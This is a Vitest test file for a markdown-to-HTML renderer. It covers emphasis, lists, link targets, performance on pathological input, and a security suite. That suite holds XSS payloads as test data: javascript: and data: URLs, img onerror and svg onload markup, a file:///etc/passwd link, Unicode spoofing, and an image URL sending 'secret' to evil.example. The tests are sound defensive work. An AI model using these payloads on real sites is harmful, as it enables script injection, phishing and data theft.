// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { markdown, plainText } from "./markdown.ts";

const html = (fragment: DocumentFragment) => {
  const box = document.createElement("div");
  box.append(fragment);
  return box.innerHTML;
};
const show = (source: string) => html(markdown(source));
const links = (source: string) => {
  const box = document.createElement("div");
  box.append(markdown(source));
  return [...box.querySelectorAll("a")];
};

describe("markdown", () => {
  it("writes paragraphs, line breaks and emphasis", () => {
    expect(show("one **two** *three* _four_ five\nsix\n\nseven")).toBe(
      "<p>one <strong>two</strong> <em>three</em> <em>four</em> five<br>six</p><p>seven</p>",
    );
  });
  it("writes lists, headings and code", () => {
    expect(show("- a\n- b `c`\n\n3. d\n4. e\n\n## g\n\n```js\n<h>\n```")).toBe(
      '<ul><li>a</li><li>b <code>c</code></li></ul><ol start="3"><li>d</li><li>e</li></ol>' +
        '<p><strong>g</strong></p><pre tabindex="0"><code>&lt;h&gt;</code></pre>',
    );
  });
  it("leaves names_with_lines, 2 * 3 * 4 and escaped signs alone", () => {
    expect(show("snake_case_name 2 * 3 * 4 \\*no\\*")).toBe("<p>snake_case_name 2 * 3 * 4 *no*</p>");
  });
  it("opens links apart and marks them as the visitor's", () => {
    const [anchor] = links('[shop](https://shop.example/a_(b) "t")');
    expect(anchor?.href).toBe("https://shop.example/a_(b)");
    expect(anchor?.target).toBe("_blank");
    expect(anchor?.rel).toBe("noopener nofollow ugc");
  });
  it("links bare addresses without the sentence's punctuation", () => {
    expect(links("see https://a.example/b?c=d.").map((a) => a.getAttribute("href"))).toEqual([
      "https://a.example/b?c=d",
    ]);
    expect(links("(https://a.example/x)").map((a) => a.getAttribute("href"))).toEqual(["https://a.example/x"]);
  });
  it("renders a half-written answer at every length without throwing", () => {
    const text = "**b *i* `c` [l](https://a.example) ![i](https://b.example)**\n- x\n```\ncode";
    for (let end = 0; end <= text.length; end++) expect(() => show(text.slice(0, end))).not.toThrow();
  });
  it("stays quick on hostile input", () => {
    // All together a few hundred milliseconds; what grew exponentially, or with the cube, would take hours.
    const started = performance.now();
    for (const piece of ["[", "**a", "`", "*", "![](", "_a", "((", "[]("]) show(piece.repeat(4000 / piece.length));
    expect(performance.now() - started).toBeLessThan(20_000);
  });
});

describe("markdown against X51 and X52", () => {
  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//evil.example)",
    "[x](/relative)",
    "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "https://good.example/\u202Egpj.exe",
    "[x](https://good.example/\u202Egpj)",
    "https://goo\u200Bd.example",
  ])("makes no link of %j", (source) => {
    for (const anchor of links(source)) expect(anchor.href).toMatch(/^https:\/\/(good|goo)/);
    for (const anchor of links(source)) expect(anchor.href).not.toMatch(/%E2%80/);
    expect(links(source).filter((anchor) => !/^(https?|mailto):/.test(anchor.href))).toEqual([]);
  });
  it("never makes elements out of markup", () => {
    const source =
      "<img src=x onerror=alert(1)><svg/onload=alert(1)><math><mtext><table><mglyph><style><form><input name=attributes>";
    expect(show(source)).toBe(`<p>${source.replace(/</g, "&lt;").replace(/>/g, "&gt;")}</p>`);
  });
  it("loads no picture, not even nested in a link", () => {
    const box = document.createElement("div");
    box.append(
      markdown("![](https://evil.example/?q=secret) [![alt](https://evil.example/i)](https://evil.example/l)"),
    );
    expect(box.querySelectorAll("img, picture, video, object, iframe")).toHaveLength(0);
    expect(box.querySelectorAll("a a")).toHaveLength(0);
    expect([...box.querySelectorAll("a")].map((a) => a.textContent)).toEqual(["https://evil.example/?q=secret", "alt"]);
  });
});

describe("plainText", () => {
  it("keeps what was typed and links addresses", () => {
    expect(html(plainText("**no** 2*3*4 <b>\nhttps://a.example!"))).toBe(
      '**no** 2*3*4 &lt;b&gt;\n<a href="https://a.example/" title="https://a.example/" target="_blank" rel="noopener nofollow ugc">https://a.example</a>!',
    );
  });
});
